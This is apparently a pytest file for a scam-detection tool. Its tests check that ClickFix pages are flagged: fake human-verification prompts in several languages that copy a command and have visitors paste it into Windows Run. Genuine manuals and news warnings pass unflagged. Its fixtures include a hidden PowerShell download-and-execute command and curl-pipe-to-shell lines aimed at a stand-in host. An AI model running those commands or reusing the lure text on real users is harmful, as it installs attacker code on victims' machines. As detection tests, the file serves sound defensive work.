"""Commands that a page copies and has its visitor run (ClickFix), and manuals, help pages and news that do or tell nearly the same."""

import pytest

from scamtriage.records.assessment import Assessment
from tests.judgement.sites import assessed

ROW = "http-pasted-command"
COMMAND = "powershell -w hidden -c iwr https://a.example/a.ps1|iex"
COPIES = f"<button onclick=\"navigator.clipboard.writeText('{COMMAND}')\">OK</button>"
COPIES_NOTHING_ODD = '<button onclick="navigator.clipboard.writeText(location.href)">Copy</button>'


def told(title: str, body: str) -> bool:
    html = f"<title>{title}</title><h1>{title}</h1>{body}"
    row: Assessment = assessed({"host": "any-of-them.xyz", "html": html, "age_days": 20, "mx": False})
    return any(c.reading.signal == ROW and c.log_odds > 0 for c in row.contributions)


@pytest.mark.parametrize(
    ("title", "steps"),
    [
        ("Verify you are human", "Press <b>Windows + R</b>, press <b>Ctrl + V</b>, press <b>Enter</b>"),
        ("ยืนยันว่าคุณเป็นมนุษย์", "กดปุ่ม Windows + R จากนั้นกด Ctrl + V แล้วกด Enter"),
        ("Xác minh bạn là con người", "Nhấn phím Windows + R, nhấn Ctrl + V rồi nhấn Enter"),
        ("验证您是真人", "请按 Win+R 键，再按 Ctrl+V，然后按回车键"),
        ("Verifikasi bahwa Anda manusia", "Tekan tombol Windows + R, tekan Ctrl + V, lalu tekan Enter"),
        ("សូមបញ្ជាក់ថាអ្នកជាមនុស្ស", "Windows + R, Ctrl + V, Enter"),
        ("Verify you are human", "Press Win-R, press Shift + Insert, click OK"),
        ("Verify you are human", "Hold the Windows key and press R. In the box hold Ctrl and press V. Press Enter."),
        ("로봇이 아닙니다", "Windows 키 + R 을 누르고 Ctrl + V 를 누른 뒤 Enter"),
    ],
)
def test_a_check_of_visitors_that_runs_a_command_is_told(title: str, steps: str) -> None:
    assert told(title, f"<p>{steps}</p>{COPIES}")
    assert told(title, f"<p>{steps}</p>{COPIES_NOTHING_ODD}")  # what it copies may stand in another file
    assert not told(title, f"<p>{steps}</p>")


@pytest.mark.parametrize(
    ("title", "body"),
    [
        ("Security check", "<p>Prove you are not a bot.</p><p>{}</p><p>This keeps malware away from the site.</p>"),
        ("Verify you are human", "<p>{}</p><p>If Windows asks you to allow it, click Yes.</p>"),
        ("Cảnh báo bảo mật", "<p>Xác minh bạn là con người.</p><p>{}</p>"),
        ("Just a moment...", "<p>Confirm that you are a real person.</p><p>{}</p>"),
        ("Verify you are human", f"<p>Copy this:</p><code>{COMMAND}</code><p>{{}}</p>"),
        ("Verify you are human", "<p>{}</p><h4>Beware of fakes</h4>"),
        ("Robot check", "<p>Open Terminal, press ⌘ + V, press Return</p>"),
    ],
)
def test_words_beside_the_steps_do_not_hide_them(title: str, body: str) -> None:
    assert told(title, body.format("Press Windows + R, press Ctrl + V, press Enter") + COPIES_NOTHING_ODD)


def test_a_command_that_is_copied_and_not_shown_is_told_whatever_it_is_said_to_be_for() -> None:
    steps = "<p>To open the shared file, open File Explorer, select the address bar, paste the path (Ctrl + V) and press Enter.</p>"
    assert told("Shared document", steps + COPIES)
    assert not told("Shared document", steps + COPIES_NOTHING_ODD)


@pytest.mark.parametrize(
    ("title", "body"),
    [
        ("Install uv", f"<p>Open PowerShell, paste with Ctrl + V and press Enter:</p><pre>{COMMAND}</pre>{COPIES}"),
        ("Clear the DNS cache", f"<p>Press Windows + R, paste %temp% with Ctrl + V, press Enter.</p>{COPIES_NOTHING_ODD}"),
        ("Set the DNS of Cloudflare", f"<p>Press Windows + R, paste ncpa.cpl (Ctrl + V) and press Enter.</p>{COPIES_NOTHING_ODD}"),
        (
            "Fake checks infect computers",
            "<p>The page asks visitors to verify that they are human, tells them to press Windows + R, Ctrl + V and Enter, and so installs"
            f" malware.</p>{COPIES_NOTHING_ODD}",
        ),
        (
            "Install Foo",
            f"<p>Copy the command, open a terminal, paste it and press Enter.</p>{COPIES.replace(COMMAND, 'curl -s a.example | sh')}",
        ),
        (
            "Install Foo",
            f"<p>Open PowerShell, paste it (Ctrl + V), press Enter:</p><pre>irm a.example|iex</pre>{COPIES}<p>I am not a robot</p>",
        ),
        (
            "Told to verify you are human, always",
            f"<p>Press Windows + R, type cmd, Enter, paste with Ctrl + V: ipconfig /flushdns, press Enter.</p>{COPIES_NOTHING_ODD}",
        ),
        ("Minecraft mods", f"<p>Verify you are human and skip the ad. Press Win+R, paste %appdata%, press Enter.</p>{COPIES_NOTHING_ODD}"),
        ("Cyber police", f"<p>Fake pages say: I am not a robot. Press Windows + R, press Ctrl + V, press Enter.</p>{COPIES_NOTHING_ODD}"),
        ("ตำรวจแจ้งเตือน แคปช่าปลอม", f"<p>ให้ยืนยันว่าคุณเป็นมนุษย์ กด Windows + R กด Ctrl + V แล้วกด Enter</p>{COPIES_NOTHING_ODD}"),
        ("警方提醒：假冒验证码骗局", f"<p>要求验证您是真人，按 Win+R 键，再按 Ctrl+V，然后按回车键</p>{COPIES_NOTHING_ODD}"),
        ("경찰청: 가짜 캡차 주의", f"<p>로봇이 아닙니다. Windows 키 + R, Ctrl + V, Enter 를 누르게 한다</p>{COPIES_NOTHING_ODD}"),
        ("เตือนภัย CAPTCHA ปลอม", f"<p>หลอกให้ยืนยันว่าเป็นมนุษย์ กด Windows + R กด Ctrl + V แล้วกด Enter อย่าทำตาม</p>{COPIES_NOTHING_ODD}"),
    ],
)
def test_manuals_help_and_news_are_not(title: str, body: str) -> None:
    assert not told(title, body)
